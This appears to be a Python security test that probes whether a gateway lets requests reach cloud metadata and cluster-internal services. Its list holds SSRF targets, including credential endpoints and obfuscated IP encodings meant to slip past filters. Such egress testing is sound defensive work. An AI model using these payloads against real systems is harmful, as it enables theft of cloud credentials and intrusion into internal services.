# Asks the gateway for the metadata of clouds, and for the services that clusters keep inside.
# control: none, for nothing of a test should leave the machine
from attack import attempt
from web import exchange, gateway, get

PLACES = """http://169.254.169.254/latest/meta-data/ http://[fd00:ec2::254]/latest/meta-data/ http://2852039166/
    http://0xa9fea9fe/ http://0251.0376.0251.0376/ http://169.254.170.2/v2/credentials http://100.100.100.200/
    http://metadata.google.internal/computeMetadata/v1/ http://[::ffff:169.254.169.254]/ http://[::ffff:a9fe:a9fe]/
    http://192.0.0.192/ http://10.0.0.1/ http://172.17.0.1/ http://192.168.1.1/ http://[fe80::1]/
    http://kubernetes.default.svc/ http://127.0.0.1:10255/pods http://127.0.0.1:2375/version
    http://127.0.0.1:8500/""".split()


def let_through(url):
    """Whatever comes from there. A gateway's own refusal is no success."""
    heard = exchange(gateway(), get(url, "Metadata-Flavor: Google", "X-aws-ec2-metadata-token-ttl-seconds: 60"))
    return heard[9:12] in (b"200", b"401", b"404", b"301", b"302") and heard[:100]


attempt(*[(url, lambda url=url: let_through(url)) for url in PLACES], also=("SILENCE", "TimeoutError"))
